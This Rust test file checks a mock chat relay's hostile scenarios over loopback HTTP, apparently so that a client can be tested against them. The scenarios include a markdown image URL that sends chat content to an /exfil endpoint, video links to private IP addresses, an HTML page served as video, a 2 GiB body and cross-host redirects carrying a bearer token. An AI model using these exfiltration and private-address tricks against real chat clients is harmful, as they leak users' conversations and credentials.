#![allow(clippy::unwrap_used, clippy::expect_used)]
//! The hostile scenarios, the heartbeat and the mid-event reset, over real loopback HTTP:
//! each hostile reply still completes (so a client renders its card), its hostile endpoints
//! answer as documented, and `/__hits` records who reached them without keeping a key.

mod common;

use common::{client, gather, get, post, prompt, relay, KEY};
use reelchat_mock_relay::{
    sha256_hex, Scenario, HEARTBEAT_BEATS, HOSTILE_HTML, HOSTILE_LINKS, HUGE_VIDEO_BYTES,
};
use serde_json::Value;

async fn reply_for(relay: &reelchat_mock_relay::RelayHandle, keyword: &str) -> common::Gathered {
    gather(post(relay, Some(KEY), &prompt(&format!("牛马跳舞 {keyword}"))).await).await
}

fn no_redirects() -> reqwest::Client {
    reqwest::Client::builder()
        .redirect(reqwest::redirect::Policy::none())
        .build()
        .expect("client")
}

#[tokio::test]
async fn hostile_text_replies_complete_and_carry_the_hostile_text_verbatim() {
    let relay = relay().await;
    let base = relay.base_url();
    for (scenario, needle) in [
        (Scenario::HostileHtml, HOSTILE_HTML.to_string()),
        (Scenario::HostileLinks, HOSTILE_LINKS.to_string()),
        (Scenario::ExfilImage, format!("![x]({base}/exfil?chat=")),
    ] {
        let reply = reply_for(&relay, &scenario.keyword()).await;
        assert!(reply.done, "{scenario}: {reply:?}");
        assert!(reply.text.contains(&needle), "{scenario}: {}", reply.text);
        assert!(reply.task_id().is_some(), "{scenario}");
        let sid = reply.sid().expect("a result sid");
        assert!(
            reply
                .text
                .contains(&format!("[视频文件]({base}/media/{sid}.mp4)")),
            "{scenario}: the real video link is there"
        );
    }
    let exfil = reply_for(&relay, "[exfil-image]").await;
    assert!(exfil
        .text
        .contains(&format!("[查看详情]({base}/exfil/link?chat=")));
    assert!(
        exfil.text.contains("%E7%89%9B%E9%A9%AC"),
        "the chat is in the exfiltration URL: {}",
        exfil.text
    );
    assert!(relay.hits().is_empty(), "streaming alone reaches nothing");
    relay.shutdown().await;
}

#[tokio::test]
async fn hostile_video_links_point_where_documented() {
    let relay = relay().await;
    let base = relay.base_url();
    let cases = [
        ("[private-video]", "http://10.0.0.1/v.mp4".to_string()),
        ("[private-loopback]", format!("{base}/private/v.mp4")),
        ("[html-video]", format!("{base}/hostile/page.mp4")),
        ("[huge-video]", format!("{base}/hostile/huge.mp4")),
    ];
    for (keyword, video) in cases {
        let reply = reply_for(&relay, keyword).await;
        assert!(reply.done && reply.task_id().is_some(), "{keyword}");
        assert_eq!(reply.video_url(), Some(video), "{keyword}");
    }
    let private = reply_for(&relay, "[private-video]").await;
    assert!(private.text.contains("[预览图](http://192.168.1.5/p.jpg)"));
    relay.shutdown().await;
}

#[tokio::test]
async fn hostile_endpoints_answer_and_every_hit_is_recorded_without_the_key() {
    let relay = relay().await;
    let base = relay.base_url();

    let page = get(&format!("{base}/hostile/page.mp4")).await;
    assert_eq!(page.headers()["content-type"], "video/mp4");
    assert!(page.text().await.unwrap().starts_with("<!DOCTYPE html>"));

    // Only the headers and the first chunk of the 2 GiB body are read.
    let mut huge = get(&format!("{base}/hostile/huge.mp4")).await;
    assert_eq!(huge.content_length(), Some(HUGE_VIDEO_BYTES));
    let first = huge.chunk().await.unwrap().unwrap();
    assert_eq!(&first[4..8], b"ftyp");
    drop(huge);

    let exfil = client()
        .get(format!("{base}/exfil?chat=secret"))
        .header("Authorization", "Bearer sk-leaked")
        .send()
        .await
        .unwrap();
    assert_eq!(exfil.headers()["content-type"], "image/gif");
    let private = get(&format!("{base}/private/v.mp4")).await;
    assert_eq!(&private.bytes().await.unwrap()[4..8], b"ftyp");

    let hits = relay.hits();
    let paths: Vec<&str> = hits.iter().map(|h| h.path.as_str()).collect();
    assert_eq!(
        paths,
        [
            "/hostile/page.mp4",
            "/hostile/huge.mp4",
            "/exfil",
            "/private/v.mp4"
        ]
    );
    let leaked = &hits[2];
    assert!(leaked.authorization);
    assert_eq!(leaked.query.as_deref(), Some("chat=secret"));
    assert_eq!(
        leaked.authorization_sha256.as_deref(),
        Some(sha256_hex(b"Bearer sk-leaked").as_str())
    );
    assert!(hits
        .iter()
        .filter(|h| h.path != "/exfil")
        .all(|h| !h.authorization));

    // The same record over HTTP, never with the key's value.
    let listed = get(&format!("{base}/__hits")).await.text().await.unwrap();
    assert!(!listed.contains("sk-leaked"), "{listed}");
    let listed: Value = serde_json::from_str(&listed).unwrap();
    assert_eq!(listed["hits"].as_array().unwrap().len(), 4);
    assert_eq!(listed["hits"][2]["path"], "/exfil");
    assert_eq!(listed["hits"][2]["authorization"], true);
    assert_eq!(listed["hits"][0]["authorization_sha256"], Value::Null);
    let cleared = client()
        .delete(format!("{base}/__hits"))
        .send()
        .await
        .unwrap();
    assert_eq!(cleared.status(), 204);
    assert!(relay.hits().is_empty());
    relay.shutdown().await;
}

#[tokio::test]
async fn redirect_auth_links_redirect_to_another_host() {
    let relay = relay().await;
    let base = relay.base_url();
    let alt = relay.alt_base_url();
    assert_ne!(
        url_host(&base),
        url_host(&alt),
        "the redirect target is another host"
    );
    let reply = reply_for(&relay, "[redirect-auth]").await;
    let sid = reply.sid().unwrap();
    let task = reply.task_id().unwrap();
    let video = reply.video_url().unwrap();
    assert_eq!(video, format!("{base}/r/video/{sid}.mp4"));
    assert!(reply
        .text
        .contains(&format!("[原始数据]({base}/r/source/{task})")));

    let hop = no_redirects().get(&video).send().await.unwrap();
    assert_eq!(hop.status(), 302);
    let landing = hop.headers()["location"].to_str().unwrap().to_string();
    assert_eq!(landing, format!("{alt}/hostile/landing/{sid}.mp4"));
    let clip = get(&landing).await.bytes().await.unwrap();
    assert_eq!(&clip[4..8], b"ftyp");

    let hop = no_redirects()
        .get(format!("{base}/r/source/{task}"))
        .send()
        .await
        .unwrap();
    let source = hop.headers()["location"].to_str().unwrap().to_string();
    assert_eq!(source, format!("{alt}/hostile/source/{task}"));
    let raw: Value = get(&source).await.json().await.unwrap();
    assert_eq!(raw["id"], task.as_str());

    let hits = relay.hits();
    assert_eq!(hits.len(), 2, "{hits:?}");
    assert!(hits
        .iter()
        .all(|h| h.host.as_deref() == Some(url_host(&alt))));
    relay.shutdown().await;
}

fn url_host(url: &str) -> &str {
    url.trim_start_matches("http://")
}

#[tokio::test]
async fn heartbeat_sends_a_dot_per_tick_and_completes() {
    let relay = relay().await;
    let reply = reply_for(&relay, "[heartbeat]").await;
    assert!(reply.done);
    let queued = reply.text.split("> 排队中").nth(1).unwrap();
    let dots = queued.chars().take_while(|c| *c == '.').count();
    assert_eq!(dots as u64, HEARTBEAT_BEATS);
    assert!(reply.video_url().is_some());
    relay.shutdown().await;
}

#[tokio::test]
async fn reset_mid_event_leaves_half_an_event_and_the_task_id() {
    let relay = relay().await;
    let reply = reply_for(&relay, "[reset-mid-event]").await;
    assert!(reply.error.is_some(), "the connection is reset: {reply:?}");
    assert!(!reply.done);
    assert!(reply.task_id().is_some());
    assert!(reply.text.contains("进度 "), "{}", reply.text);
    relay.shutdown().await;
}
